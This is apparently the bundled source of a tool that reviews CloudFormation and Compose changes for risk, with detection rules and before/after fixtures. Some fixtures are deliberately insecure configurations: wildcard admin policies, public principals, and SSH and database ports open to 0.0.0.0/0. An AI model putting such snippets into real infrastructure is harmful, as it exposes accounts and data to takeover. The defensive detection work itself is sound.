      { before: api("'*'"), after: api("https://a.example"), outcome: "hardened" },
      { before: api("https://a.example"), after: api("https://b.example"), outcome: "none" }
    ]
  }),
  control({
    id: "config/aws-function-public",
    class: "exposure",
    title: "everybody may call a function",
    why: "Any AWS account, or anybody on the internet, may run it and pay you the bill.",
    fix: "Name the account or the service that calls it.",
    equivalents: ["checkov:CKV_AWS_301"],
    dialect: dialect5,
    governs: isProperty([["AWS::Lambda::Permission", "Principal"]]),
    rank: (node) => node.kind === "scalar" ? Number(node.text !== "*") : void 0,
    absent: 1,
    outcomes: {
      flip: moved2("critical"),
      open: moved2("critical"),
      born: moved2("high"),
      hardened: hardened("callers of a function named")
    },
    examples: [
      { before: permission("Principal: s3.amazonaws.com"), after: permission("Principal: '*'"), outcome: "flip" },
      { before: permission(), after: permission("Principal: '*'"), outcome: "open" },
      { before: "", after: permission("Principal: '*'"), outcome: "born" },
      { before: permission("Principal: '*'"), after: permission("Principal: s3.amazonaws.com"), outcome: "hardened" },
      {
        before: permission("Principal: s3.amazonaws.com"),
        after: permission("Principal: sns.amazonaws.com"),
        outcome: "none"
      }
    ]
  }),
  control({
    id: "config/aws-replaced",
    class: "data-loss",
    title: "AWS resource replaced, with its data",
    why: "This cannot change in place: a new, empty resource takes over, and the old one is deleted unless it is retained.",
    fix: "Set `UpdateReplacePolicy: Retain`, copy the data, and switch over; or keep the value.",
    dialect: dialect5,
    governs: isProperty(REPLACES),
    rank: unmoved,
    outcomes: { flip: moved2("high") },
    refine: ({ transition }) => transition === "flip" ? "flip" : void 0,
    examples: [
      { before: bucket3("BucketName: a"), after: bucket3("BucketName: b"), outcome: "flip" },
      { before: bucket3("BucketName: a"), after: bucket3('BucketName: "a"'), outcome: "none" },
      { before: bucket3(), after: bucket3("BucketName: a"), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/cloudformation/managed-policies.ts
var dialect6 = "cloudformation";
var role2 = resource("AWS::IAM::Role");
var holding = (...names2) => role2(`ManagedPolicyArns: [${names2.map((name) => `'arn:aws:iam::aws:policy/${name}'`).join(", ")}]`);
var BOUND = "PermissionsBoundary: 'arn:aws:iam::1234:policy/bound'";
var onHolders = (property) => ["AWS::IAM::Role", "AWS::IAM::User", "AWS::IAM::Group"].map((type) => [type, property]);
var ADMIN2 = /(?:^|\/)AdministratorAccess$/;
var BROAD = /(?:^|\/)(?:PowerUserAccess|IAMFullAccess|\w+FullAccess)$/;
function reach3(node) {
  const names2 = textsOf(node);
  if (names2.some((name) => ADMIN2.test(name))) return 0;
  return names2.some((name) => BROAD.test(name)) ? 1 : 2;
}
function broadest2(node) {
  const names2 = textsOf(node);
  const broad = names2.filter((name) => ADMIN2.test(name) || BROAD.test(name));
  return (broad.length > 0 ? broad : names2).map((name) => name.replace(/^.*[/:]/, "")).toSorted(adminFirst).join(", ");
}
var adminFirst = (a, b) => Number(ADMIN2.test(b)) - Number(ADMIN2.test(a));
var managed_policies_default = [
  control({
    id: "config/aws-managed-policy",
    class: "permission-widening",
    title: "AWS role given a broad policy",
    why: "Whoever takes over its holder may do all that the policy allows.",
    fix: "Write a policy with the actions and resources that are needed.",
    equivalents: ["checkov:CKV_AWS_274", "checkov:CKV_AWS_275"],
    dialect: dialect6,
    governs: isProperty(onHolders("ManagedPolicyArns")),
    rank: reach3,
    tell: broadest2,
    absent: 2,
    outcomes: {
      admin: moved2("critical"),
      broad: moved2("high"),
      born: moved2("medium"),
      hardened: hardened("AWS role no longer given a broad policy")
    },
    refine: ({ transition, to = "" }) => {
      if (transition === "hardened" || transition === "born") return transition;
      return to.includes("AdministratorAccess") ? "admin" : "broad";
    },
    examples: [
      { before: holding("ReadOnlyAccess"), after: holding("AdministratorAccess"), outcome: "admin" },
      { before: holding("ReadOnlyAccess"), after: holding("ReadOnlyAccess", "AmazonS3FullAccess"), outcome: "broad" },
      { before: "", after: holding("AdministratorAccess"), outcome: "born" },
      { before: holding("AdministratorAccess"), after: holding("ReadOnlyAccess"), outcome: "hardened" },
      { before: holding("ReadOnlyAccess"), after: holding("SecurityAudit", "ReadOnlyAccess"), outcome: "none" }
    ]
  }),
  control({
    id: "config/aws-boundary-removed",
    class: "permission-widening",
    title: "bound of an AWS role removed",
    why: "What its policies allow is no longer held back.",
    fix: "Keep the boundary.",
    dialect: dialect6,
    governs: isProperty(onHolders("PermissionsBoundary")),
    rank: () => 1,
    byPresence: true,
    absent: 0,
    outcomes: { drop: removed("high", "permissions boundary"), hardened: hardened("AWS role now bounded") },
    examples: [
      { before: role2(BOUND), after: role2(), outcome: "drop" },
      { before: role2(), after: role2(BOUND), outcome: "hardened" },
      { before: role2(BOUND), after: "", outcome: "none" },
      { before: role2(BOUND), after: role2(BOUND.replace("bound", "limit")), outcome: "none" }
    ]
  })
];

// src/domains/config/rules/cloudformation/parameters.ts
var dialect7 = "cloudformation";
var parameter2 = (lines) => `AWSTemplateFormatVersion: '2010-09-09'
Parameters:
  Size: { Type: String${lines === "" ? "" : `, ${lines}`} }
Resources: {}
`;
var inParameter = (name) => ({ keys, path: path27 }) => keys.length === 3 && keys[0] === "Parameters" && keys[2] === name && path27.at(-1)?.kind === "key";
var isHidden = (owner) => switchOf(at(owner, "NoEcho")) === true;
var parameters_default = [
  control({
    id: "config/stack-parameter-shown",
    class: "secret",
    title: "parameter of a stack no longer hidden",
    why: "Everybody who may describe the stack reads its value in the console and in logs.",
    fix: "Keep `NoEcho: true`, and change the value.",
    dialect: dialect7,
    governs: inParameter("NoEcho"),
    rank: safeOn,
    absent: 0,
    outcomes: { flip: moved2("high"), drop: moved2("high"), hardened: hardened("parameter of a stack hidden") },
    refine: ({ transition }) => transition === "flip" || transition === "drop" || transition === "hardened" ? transition : void 0,
    examples: [
      { before: parameter2("NoEcho: true"), after: parameter2("NoEcho: false"), outcome: "flip" },
      { before: parameter2("NoEcho: true"), after: parameter2(""), outcome: "drop" },
      { before: parameter2(""), after: parameter2("NoEcho: true"), outcome: "hardened" },
      { before: parameter2("NoEcho: true"), after: parameter2('NoEcho: "true"'), outcome: "none" }
    ]
  }),
  control({
    id: "config/stack-secret-default",
    class: "secret",
    title: "hidden parameter has a default",
    why: "What is hidden from the console stands in the template, for all who may read the repository.",
    fix: "Remove the default, and let the deployment fetch the value.",
    dialect: dialect7,
    governs: (setting) => inParameter("Default")(setting) && isHidden(setting.ownerAfter),
    rank: (node) => node.kind === "scalar" ? Number(node.text === "" || isPlaceholder(node.text)) : void 0,
    absent: 1,
    outcomes: {
      open: { risk: "high", message: () => "A parameter with `NoEcho` now has a default." },
      born: { risk: "medium", message: () => "A new parameter with `NoEcho` has a default." }
    },
    refine: ({ transition }) => transition === "open" || transition === "born" ? transition : void 0,
    examples: [
      { before: parameter2("NoEcho: true"), after: parameter2("NoEcho: true, Default: open-sesame"), outcome: "open" },
      { before: "", after: parameter2("NoEcho: true, Default: open-sesame"), outcome: "born" },
      { before: parameter2(""), after: parameter2("Default: small"), outcome: "none" },
      { before: "", after: parameter2("NoEcho: true, Default: '<>'"), outcome: "none" }
    ]
  }),
  control({
    id: "config/stack-parameter-narrowed",
    class: "compatibility",
    title: "parameter of a stack takes fewer values",
    why: "Deployments that give it one of the others, or nothing at all, are refused.",
    fix: "Keep taking the old values until no deployment gives them.",
    dialect: dialect7,
    governs: (setting) => inParameter("AllowedValues")(setting) || inParameter("Default")(setting) && setting.ownerAfter !== void 0,
    rank: (node, setting) => Number(setting.keys[2] === "Default" || lostFrom(node, setting).length === 0),
    tell: (node, setting) => setting.keys[2] === "Default" ? shown2(node, setting) : told3(node, setting),
    cause: (setting) => `${setting.keys[2]} ${causeOf4(setting)}`,
    outcomes: {
      flip: {
        risk: "medium",
        message: (c) => `The parameter \`${parameterOf(c)}\` no longer takes ${listed5(c.from ?? "")}.`
      },
      drop: {
        risk: "medium",
        title: "parameter of a stack has no default any more",
        message: (c) => `The parameter \`${parameterOf(c)}\` no longer defaults to \`${c.from ?? ""}\`.`,
        why: "New deployments that give it nothing are refused.",
        fix: "Keep a default that works, or say in the release notes that it must be given."
      }
    },
    refine: ({ transition, subject }) => {
      if (transition === "flip") return "flip";
      return transition === "drop" && subject.endsWith("Default") ? "drop" : void 0;
    },
    examples: [
      { before: parameter2("AllowedValues: [a, b]"), after: parameter2("AllowedValues: [a]"), outcome: "flip" },
      { before: parameter2("Default: a"), after: parameter2(""), outcome: "drop" },
      { before: parameter2("AllowedValues: [a]"), after: parameter2("AllowedValues: [a, b]"), outcome: "none" },
      {
        before: parameter2("AllowedValues: [a_1, b]"),
        after: parameter2("AllowedValues: [a-1, b]"),
        outcome: "none"
      },
      { before: parameter2("Default: a"), after: parameter2("Default: b"), outcome: "none" }
    ]
  })
];
var MOST_NAMED = 6;
var LONGEST_NAME2 = 24;
var missing = (values3, others) => {
  const known2 = new Set(others.map(plainly));
  return values3.filter((value) => !known2.has(plainly(value)));
};
var plainly = (value) => value.toLowerCase().replace(/[^a-z0-9.]/g, "");
var lostFrom = (node, { before: before3 }) => missing(textsOf(before3), textsOf(node));
function told3(node, { before: before3, after }) {
  const values3 = missing(textsOf(node), textsOf(node === before3 ? after : before3));
  const named4 = values3.slice(0, MOST_NAMED).map((value) => shorten(maskSecrets(value), LONGEST_NAME2));
  return [...named4, ...values3.length > MOST_NAMED ? [`${values3.length - MOST_NAMED} more`] : []].join(", ");
}
var listed5 = (values3) => values3.split(", ").map((value) => /^\d+ more$/.test(value) ? `and ${value}` : `\`${value}\``).join(", ").replace(", and", " and");
function causeOf4(setting) {
  if (setting.keys[2] === "Default") return "gone";
  const lost = lostFrom(setting.after, setting);
  return lost.every((value) => /\d+[._x]/.test(value)) ? "of versions" : lost.join();
}
var parameterOf = ({ subject }) => /Parameters\.(.*)\.\w+$/.exec(subject)?.[1] ?? subject;

// src/domains/config/changes.ts
var configRule = rulesFor();

// src/domains/config/rules/cloudformation/policies.ts
var READ2 = '{ Effect: Allow, Action: "s3:GetObject", Resource: "arn:aws:s3:::shop/*" }';
var ADMIN3 = '{ Effect: Allow, Action: "*", Resource: "*" }';
var bucket4 = (statement) => resource("AWS::S3::BucketPolicy")(`PolicyDocument: { Statement: [${statement}] }`);
var letIn = (principal, rest = "") => `{ Effect: Allow, Principal: ${principal}, Action: "s3:GetObject", Resource: "arn:aws:s3:::shop/*"${rest} }`;
var endpoint = (principal) => resource("AWS::EC2::VPCEndpoint")(`PolicyDocument: { Statement: [${letIn(principal)}] }`);
var trusting = (service6) => resource("AWS::IAM::Role")(
  `AssumeRolePolicyDocument: { Statement: [{ Effect: Allow, Principal: { Service: [${service6}] }, Action: "sts:AssumeRole" }] }`
);
var DENY = '{ Effect: Deny, Action: "s3:DeleteObject", Resource: "*" }';
var granted = ({ resource: name, principal, action: action2, on: on3, gained, isNew }) => {
  const who = principal === "*" ? "" : principal === "everybody" ? " everybody" : ` \`${principal}\``;
  const more2 = gained > 1 ? `, and ${gained - 1} more` : "";
  return `${isNew ? "The new resource" : "The policy of"} \`${name}\` ${isNew ? "allows" : "now allows"}${who} \`${action2}\` on \`${on3}\`${more2}.`;
};
var policies_default2 = [
  configRule({
    id: "config/iam-widened",
    on: "policy-widened",
    class: "permission-widening",
    title: "AWS policy allows more",
    why: "Whoever takes over its holder may do so too.",
    fix: "Name the actions and the resources that are needed.",
    outcomes: {
      public: {
        risk: "critical",
        class: "exposure",
        title: "AWS resource open to everybody",
        message: granted,
        why: "Anybody on the internet may do so, without an account.",
        fix: "Name the accounts or roles that need it, or bind it to a condition.",
        equivalents: ["checkov:CKV_AWS_32", "checkov:CKV_AWS_33", "checkov:CKV_AWS_60", "checkov:CKV_AWS_61"]
      },
      admin: {
        risk: "critical",
        message: granted,
        why: "Its holder may do everything in the account.",
        equivalents: ["checkov:CKV_AWS_62", "checkov:CKV_AWS_63"]
      },
      "new-admin": {
        risk: "high",
        message: granted,
        why: "Its holder may do everything in the account.",
        equivalents: ["checkov:CKV_AWS_62", "checkov:CKV_AWS_63"]
      },
      service: { risk: "high", message: granted, equivalents: ["checkov:CKV_AWS_62", "checkov:CKV_AWS_63"] },
      escalation: {
        risk: "high",
        message: granted,
        why: "By this its holder can give itself more rights.",
        equivalents: ["checkov:CKV_AWS_107", "checkov:CKV_AWS_109", "checkov:CKV_AWS_110"]
      },
      refusal: {
        risk: "high",
        title: "AWS policy refuses less",
        message: (c) => `The policy of \`${c.resource}\` no longer refuses \`${c.action}\` on \`${c.on}\`.`,
        why: "What other policies allow is no longer held back here.",
        fix: "Keep the `Deny` statement."
      },
      unconditional: {
        risk: "high",
        message: (c) => `The policy of \`${c.resource}\` allows \`${c.action}\` on \`${c.on}\` without the condition it had.`,
        fix: "Keep the condition."
      },
      plain: { risk: "low", message: granted }
    },
    examples: [
      { before: bucket4(letIn('{ AWS: "1234" }')), after: bucket4(letIn('"*"')), outcome: "public" },
      { before: "", after: bucket4(letIn('{ AWS: "*" }')), outcome: "public" },
      { before: role(READ2), after: role(ADMIN3), outcome: "admin" },
      { before: "", after: role(ADMIN3), outcome: "new-admin" },
      { before: role(READ2), after: role(ADMIN3.replace('"*"', '"s3:*"')), outcome: "service" },
      { before: role(READ2), after: role(ADMIN3.replace('"*"', '"iam:PassRole"')), outcome: "escalation" },
      { before: role(`${READ2}, ${DENY}`), after: role(READ2), outcome: "refusal" },
      {
        before: bucket4(letIn('{ AWS: "1234" }', ', Condition: { Bool: { "aws:SecureTransport": true } }')),
        after: bucket4(letIn('{ AWS: "1234" }')),
        outcome: "unconditional"
      },
      { before: role(READ2), after: role(READ2.replace("GetObject", "PutObject")), outcome: "plain" },
      { before: trusting("lambda.amazonaws.com"), after: trusting("ec2.amazonaws.com"), outcome: "plain" },
      {
        before: trusting("states.eu-west-1.amazonaws.com"),
        after: trusting('!Sub "states.${AWS::Region}.${AWS::URLSuffix}"'),
        outcome: "none"
      },
      { before: "", after: endpoint('"*"'), outcome: "none" },
      { before: endpoint('{ AWS: "1234" }'), after: endpoint('"*"'), outcome: "plain" },
      { before: role(ADMIN3), after: role(READ2), outcome: "none" },
      { before: role(READ2.replace("GetObject", "Get*")), after: role(READ2), outcome: "none" },
      { before: role(`${READ2}, ${DENY}`), after: role(`${DENY}, ${READ2}`), outcome: "none" },
      { before: role(READ2), after: role(READ2.replace('"s3:GetObject"', '["s3:GetObject"]')), outcome: "none" },
      { before: "", after: role(READ2), outcome: "none" }
    ],
    classify: ({ by, power, isNew }) => {
      if (by === "deny") return "refusal";
      if (power === "public") return "public";
      if (isNew) return power === "admin" ? "new-admin" : void 0;
      return by === "condition" && power === "plain" ? "unconditional" : power;
    }
  }),
  configRule({
    id: "config/iam-narrowed",
    on: "policy-narrowed",
    class: "hardening",
    title: "AWS policy allows less",
    why: "What its holder no longer needs, an intruder cannot use.",
    fix: "Watch the first deployment for refused calls.",
    outcomes: { narrowed: { risk: "info", message: (c) => `The policy of \`${c.resource}\` allows less.` } },
    examples: [
      { before: role(ADMIN3), after: role(READ2), outcome: "narrowed" },
      { before: role(READ2), after: role(ADMIN3), outcome: "none" }
    ],
    classify: () => "narrowed"
  })
];

// src/domains/config/rules/cloudformation/protection.ts
var dialect8 = "cloudformation";
var database4 = resource("AWS::RDS::DBInstance");
var bucket5 = resource("AWS::S3::Bucket");
var trail = resource("AWS::CloudTrail::Trail");
var images = resource("AWS::ECR::Repository");
var logs = resource("AWS::Logs::LogGroup");
var days = (node) => node.kind === "scalar" && /^\d{1,5}$/.test(node.text) ? Number(node.text) : void 0;
var protection_default = [
  control({
    id: "config/aws-protection-off",
    class: "data-loss",
    title: "protection of AWS data switched off",
    why: "A mistake or a failure now takes the data with it.",
    fix: "Keep it on.",
    equivalents: ["checkov:CKV_AWS_28", "checkov:CKV_AWS_157"],
    dialect: dialect8,
    governs: isProperty(PROTECTS),
    rank: safeOn,
    ...safeWhenSet({
      risk: "high",
      praise: "AWS data now protected",
      weak: "DeletionProtection: false",
      safe: "DeletionProtection: true",
      file: database4
    })
  }),
  control({
    id: "config/aws-backup-shortened",
    class: "data-loss",
    title: "backups of an AWS database kept shorter",
    why: "Mistakes found later than that can no longer be undone.",
    fix: "Keep as many days as it takes to notice a mistake.",
    equivalents: ["checkov:CKV_AWS_133"],
    dialect: dialect8,
    governs: isProperty(BACKUPS),
    rank: days,
    absent: 1,
    outcomes: {
      off: { ...moved2("high"), title: "backups of an AWS database switched off", why: "Lost data cannot be restored." },
      shorter: moved2("medium"),
      hardened: hardened("backups of an AWS database kept longer")
    },
    refine: ({ transition, to }) => {
      if (transition === "hardened") return "hardened";
      if (transition !== "flip" && transition !== "drop" && transition !== "open") return void 0;
      return to === "0" ? "off" : "shorter";
    },
    examples: [
      { before: database4("BackupRetentionPeriod: 7"), after: database4("BackupRetentionPeriod: 0"), outcome: "off" },
      { before: database4("BackupRetentionPeriod: 7"), after: database4("BackupRetentionPeriod: 1"), outcome: "shorter" },
      {
        before: database4("BackupRetentionPeriod: 1"),
        after: database4("BackupRetentionPeriod: 7"),
        outcome: "hardened"
      },
      { before: database4("BackupRetentionPeriod: 1"), after: database4(), outcome: "none" }
    ]
  }),
  control({
    id: "config/bucket-versioning-off",
    class: "data-loss",
    title: "versions of a bucket no longer kept",
    why: "What is overwritten or deleted from now on cannot be restored.",
    fix: "Keep `Enabled`, and let a lifecycle rule expire old versions.",
    equivalents: ["checkov:CKV_AWS_21"],
    dialect: dialect8,
    governs: isProperty([["AWS::S3::Bucket", "VersioningConfiguration.Status"]]),
    rank: unless("Suspended"),
    absent: 0,
    outcomes: { flip: moved2("medium"), drop: moved2("medium"), hardened: hardened("versions of a bucket now kept") },
    examples: [
      {
        before: bucket5("VersioningConfiguration: { Status: Enabled }"),
        after: bucket5("VersioningConfiguration: { Status: Suspended }"),
        outcome: "flip"
      },
      { before: bucket5("VersioningConfiguration: { Status: Enabled }"), after: bucket5(), outcome: "drop" },
      { before: bucket5(), after: bucket5("VersioningConfiguration: { Status: Enabled }"), outcome: "hardened" },
      { before: bucket5("VersioningConfiguration: { Status: Suspended }"), after: bucket5(), outcome: "none" }
    ]
  }),
  control({
    id: "config/aws-trail-off",
    class: "observability",
    title: "AWS records or checks less",
    why: "What an intruder does may go unseen.",
    fix: "Keep it on.",
    equivalents: ["checkov:CKV_AWS_36", "checkov:CKV_AWS_67", "checkov:CKV_AWS_7", "checkov:CKV_AWS_163"],
    dialect: dialect8,
    governs: isProperty(WATCHES),
    rank: safeOn,
    ...safeWhenSet({
      risk: "medium",
      praise: "AWS records or checks more",
      weak: "EnableLogFileValidation: false",
      safe: "EnableLogFileValidation: true",
      file: trail
    })
  }),
  control({
    id: "config/image-tags-mutable",
    class: "supply-chain",
    title: "images may be replaced under their tag",
    why: "Whoever may push can put another image where a deployment expects the old one.",
    fix: "Keep `IMMUTABLE`.",
    equivalents: ["checkov:CKV_AWS_51"],
    dialect: dialect8,
    governs: isProperty([["AWS::ECR::Repository", "ImageTagMutability"]]),
    rank: unless("MUTABLE"),
    ...safeWhenSet({
      risk: "medium",
      praise: "images stay what their tag says",
      weak: "ImageTagMutability: MUTABLE",
      safe: "ImageTagMutability: IMMUTABLE",
      file: images
    })
  }),
  control({
    id: "config/log-retention-shortened",
    class: "observability",
    title: "logs kept shorter",
    why: "What happened before that can no longer be looked up.",
    fix: "Keep logs as long as an investigation may need them.",
    equivalents: ["checkov:CKV_AWS_66"],
    dialect: dialect8,
    governs: isProperty([["AWS::Logs::LogGroup", "RetentionInDays"]]),
    rank: days,
    outcomes: { flip: moved2("low"), hardened: hardened("logs kept longer") },
    examples: [
      { before: logs("RetentionInDays: 365"), after: logs("RetentionInDays: 7"), outcome: "flip" },
      { before: logs("RetentionInDays: 7"), after: logs("RetentionInDays: 365"), outcome: "hardened" },
      { before: logs("RetentionInDays: 7"), after: logs(), outcome: "none" }
    ]
  }),
  control({
    id: "config/object-lock-removed",
    class: "data-loss",
    title: "objects of a bucket no longer locked",
    why: "New objects can be deleted and overwritten at once, by mistake or for ransom.",
    fix: "Keep the retention.",
    dialect: dialect8,
    governs: isProperty([["AWS::S3::Bucket", "ObjectLockConfiguration"]]),
    rank: () => 1,
    byPresence: true,
    absent: 0,
    outcomes: { drop: removed("high", "lock of the objects"), hardened: hardened("objects of a bucket locked") },
    examples: [
      { before: bucket5("ObjectLockConfiguration: { ObjectLockEnabled: Enabled }"), after: bucket5(), outcome: "drop" },
      {
        before: bucket5(),
        after: bucket5("ObjectLockConfiguration: { ObjectLockEnabled: Enabled }"),
        outcome: "hardened"
      },
      { before: bucket5("ObjectLockConfiguration: { ObjectLockEnabled: Enabled }"), after: "", outcome: "none" }
    ]
  })
];

// src/domains/config/rules/cloudformation/security-groups.ts
var group = resource("AWS::EC2::SecurityGroupIngress");
var from = (addresses2, port) => group(`CidrIp: ${addresses2}
IpProtocol: tcp
FromPort: ${port}
ToPort: ${port}`);
var GUARDED = [22, 3389, 1433, 3306, 5432, 6379, 9200, 27017];
function letsInToGuarded(rule) {
  if (textAt(rule, "IpProtocol") === "-1") return true;
  const [low, high] = [Number(textAt(rule, "FromPort") ?? -1), Number(textAt(rule, "ToPort") ?? -1)];
  return GUARDED.some((port) => low <= port && port <= high);
}
var isIngress = ({ keys, document }) => {
  if (keys.at(-1) !== "CidrIp" && keys.at(-1) !== "CidrIpv6") return false;
  if (keys.at(-2) === "SecurityGroupIngress") return true;
  const type = at(document.after?.root ?? document.before?.root, "Resources", keys[1] ?? "");
  return textAt(type, "Type") === "AWS::EC2::SecurityGroupIngress";
};
function widestOf(node) {
  const prefixes = branchesOf(node).flatMap((branch) => prefixOf(branch) ?? []);
  return prefixes.length === 0 ? void 0 : Math.min(...prefixes);
}
var prefixOf = (node) => node.kind === "scalar" ? cidr(node.text)?.prefix : void 0;
var EVERYBODY = /^(?:0\.0\.0\.0|::)\/0 /;
var WEB = /\(port (?:80|443)\)$/;
function told4(node, { ownerBefore, ownerAfter }) {
  const widest = branchesOf(node).toSorted((a, b) => (prefixOf(a) ?? Infinity) - (prefixOf(b) ?? Infinity))[0];
  const text = widest?.kind === "scalar" ? [widest.tag, widest.text].filter(Boolean).join(" ") : "{\u2026}";
  return `${text} (${portsOf2(ownerAfter ?? ownerBefore)})`;
}
function portsOf2(rule) {
  const [low, high = low] = ["FromPort", "ToPort"].map((name) => {
    const port = at(rule, name);
    return port?.kind === "scalar" ? [port.tag, port.text].filter(Boolean).join(" ") : void 0;
  });
  if (low === void 0 || textAt(rule, "IpProtocol") === "-1") return "every port";
  return low === high ? `port ${low}` : `ports ${low} to ${high}`;
}
var among = (guarded) => (setting) => isIngress(setting) && letsInToGuarded(setting.ownerAfter) === guarded;
var security_groups_default = [
  control({
    id: "config/security-group-guarded-port",
    class: "exposure",
    title: "guarded port open to more addresses",
    why: "Shells, desktops and databases are found and tried within minutes.",
    fix: "Name the addresses that need it, or go through a bastion or a session manager.",
    equivalents: ["checkov:CKV_AWS_24", "checkov:CKV_AWS_25", "checkov:CKV_AWS_277"],
    dialect: "cloudformation",
    governs: among(true),
    rank: widestOf,
    tell: told4,
    absent: 8,
    outcomes: {
      everybody: moved2("critical"),
      "new-everybody": moved2("high"),
      wider: moved2("medium"),
      hardened: hardened("guarded port open to fewer addresses")
    },
    refine: ({ transition, to = "" }) => {
      if (transition === "hardened") return "hardened";
      if (transition === "drop" || transition === "template") return void 0;
      if (!EVERYBODY.test(to)) return "wider";
      return transition === "born" ? "new-everybody" : "everybody";
    },
    examples: [
      { before: from("10.0.0.0/8", "22"), after: from("0.0.0.0/0", "22"), outcome: "everybody" },
      { before: "", after: from("0.0.0.0/0", "22"), outcome: "new-everybody" },
      { before: from("10.1.0.0/16", "22"), after: from("10.0.0.0/8", "22"), outcome: "wider" },
      { before: from("0.0.0.0/0", "22"), after: from("10.0.0.0/8", "22"), outcome: "hardened" },
      { before: from("10.0.0.0/8", "22"), after: from("10.1.0.0/16", "22").replace("22", "22 #"), outcome: "hardened" },
      { before: from("10.0.0.0/8", "443"), after: from("0.0.0.0/0", "443"), outcome: "none" }
    ]
  }),
  control({
    id: "config/security-group-opened",
    class: "exposure",
    title: "port open to more addresses",
    why: "Whoever has one of these addresses may connect.",
    fix: "Name the addresses that need it; put public services behind a load balancer.",
    equivalents: ["checkov:CKV_AWS_260"],
    dialect: "cloudformation",
    governs: among(false),
    rank: widestOf,
    tell: told4,
    absent: 8,
    outcomes: {
      everybody: moved2("high"),
      "new-everybody": moved2("medium"),
      "new-web": {
        ...moved2("low"),
        why: "Anybody may connect, as to any web site.",
        fix: "Keep it where strangers are meant to come; elsewhere name the addresses."
      },
      wider: moved2("low"),
      hardened: hardened("port open to fewer addresses")
    },
    refine: ({ transition, to = "" }) => {
      if (transition === "hardened") return "hardened";
      if (transition === "drop" || transition === "template") return void 0;
      if (!EVERYBODY.test(to)) return "wider";
      if (transition !== "born") return "everybody";
      return WEB.test(to) ? "new-web" : "new-everybody";
    },
    examples: [
      { before: from("10.0.0.0/8", "443"), after: from("0.0.0.0/0", "443"), outcome: "everybody" },
      { before: "", after: from("0.0.0.0/0", "8080"), outcome: "new-everybody" },
      { before: "", after: from("!If [IsOpen, 0.0.0.0/0, !Ref Office]", "8080"), outcome: "new-everybody" },
      { before: "", after: from("0.0.0.0/0", "443"), outcome: "new-web" },
      { before: from("10.1.0.0/16", "443"), after: from("10.0.0.0/8", "443"), outcome: "wider" },
      { before: from("0.0.0.0/0", "443"), after: from("10.0.0.0/8", "443"), outcome: "hardened" },
      {
        before: from("10.0.0.0/8", "443"),
        after: from("10.0.0.0/8", "443").replace("Tags", "Labels"),
        outcome: "none"
      }
    ]
  })
];

// src/domains/config/rules/cloudformation/stacks.ts
var TABLE = resource("AWS::DynamoDB::Table")();
var KEPT = TABLE.replace("    Properties", "    DeletionPolicy: Retain\n    Properties");
var OTHER2 = "  Topic: { Type: AWS::SNS::Topic }\n";
var EXPORT = "Outputs: { Url: { Value: x, Export: { Name: shop-url } } }\n";
var PARAMETERS = "Parameters: { Size: { Type: String }, Zone: { Type: String } }\n";
var PARAMETER = "Parameters: { Size: { Type: String } }\n";
var MOST_NAMED2 = 5;
function removedParameters({ name, others = [] }) {
  if (others.length === 0) return `The parameter \`${name}\` was removed.`;
  const names2 = [name, ...others].slice(0, MOST_NAMED2).map((each) => `\`${each}\``);
  const more2 = others.length - names2.length + 1;
  return `The parameters ${names2.join(", ")}${more2 > 0 ? ` and ${more2} more` : ""} were removed.`;
}
var stacks_default = [
  configRule({
    id: "config/stack-data-loss",
    on: "stack-changed",
    class: "data-loss",
    title: "data of a stack at risk",
    why: "Updating the stack deletes the resource and the data in it.",
    fix: "Set `DeletionPolicy: Retain` in an update of its own before it is removed or renamed.",
    outcomes: {
      removed: { risk: "high", message: (c) => `\`${c.name}\` (\`${c.type ?? ""}\`) was removed or renamed.` },
      unprotected: {
        risk: "high",
        message: (c) => `\`${c.policy ?? ""}\` of \`${c.name}\` goes from \`${c.from ?? ""}\` to \`${c.to ?? ""}\`.`,
        why: "Removing it, or the stack, now deletes the data in it.",
        fix: "Keep `Retain` or `Snapshot`."
      }
    },
    examples: [
      { before: TABLE + OTHER2, after: TABLE.replace("Main", "Orders") + OTHER2, outcome: "removed" },
      { before: KEPT, after: TABLE, outcome: "unprotected" },
      { before: TABLE + OTHER2, after: TABLE, outcome: "none" },
      { before: KEPT, after: KEPT.replace("Retain", "RetainExceptOnCreate"), outcome: "none" }
    ],
    classify: ({ what }) => {
      if (what === "data-removed") return "removed";
      return what === "retention-dropped" ? "unprotected" : void 0;
    }
  }),
  configRule({
    id: "config/stack-contract",
    on: "stack-changed",
    class: "compatibility",
    title: "name that others use removed from a stack",
    why: "Other stacks import it: the update is refused while they do.",
    fix: "Keep the export until no stack imports it.",
    outcomes: {
      export: { risk: "high", message: (c) => `The export \`${c.name}\` was removed.` },
      parameter: {
        risk: "medium",
        message: removedParameters,
        why: "Deployments that still give one a value are refused.",
        fix: "Keep it, unused, until no deployment gives it."
      }
    },
    examples: [
      { before: TABLE + EXPORT, after: TABLE, outcome: "export" },
      { before: TABLE + PARAMETER, after: TABLE, outcome: "parameter" },
      { before: TABLE + PARAMETERS, after: TABLE, outcome: "parameter" },
      { before: TABLE, after: TABLE + EXPORT, outcome: "none" },
      { before: TABLE + EXPORT, after: TABLE + EXPORT.replace("Url", "Address"), outcome: "none" }
    ],
    classify: ({ what }) => {
      if (what === "export-removed") return "export";
      return what === "parameter-removed" ? "parameter" : void 0;
    }
  })
];

// src/domains/config/compose/examples.ts
var service = (lines = "", rest = "") => `services:
  db:
    image: postgres${lines === "" ? "" : `
${lines}`.replaceAll("\n", "\n    ")}
${rest === "" ? "" : `${rest}
`}`;

// src/domains/config/rules/compose/deployment.ts
var path2 = "compose.yaml";
var dialect9 = "compose";
var deployment_default = [
  control({
    id: "config/compose-update-order",
    class: "availability",
    title: "update stops a container before it starts the next",
    why: "Each update leaves the service one container short, or down where it has only one.",
    fix: "Use `start-first`, unless two versions cannot run side by side.",
    dialect: dialect9,
    governs: inService("deploy", "update_config", "order"),
    rank: ordered(["start-first", "stop-first"]),
    ...safeWhenSet({
      risk: "low",
      praise: "update starts the next container first",
      weak: "deploy: { update_config: { order: stop-first } }",
      safe: "deploy: { update_config: { order: start-first } }",
      path: path2,
      file: service
    })
  }),
  control({
    id: "config/compose-update-failure",
    class: "availability",
    title: "failed update no longer rolled back",
    why: "An update that fails stays half-way, or goes on over containers that do not start.",
    fix: "Keep `rollback`.",
    dialect: dialect9,
    governs: inService("deploy", "update_config", "failure_action"),
    rank: ordered(["rollback", "pause", "continue"]),
    ...safeWhenSet({
      risk: "low",
      praise: "failed update rolled back",
      weak: "deploy: { update_config: { failure_action: continue } }",
      safe: "deploy: { update_config: { failure_action: rollback } }",
      path: path2,
      file: service
    })
  })
];

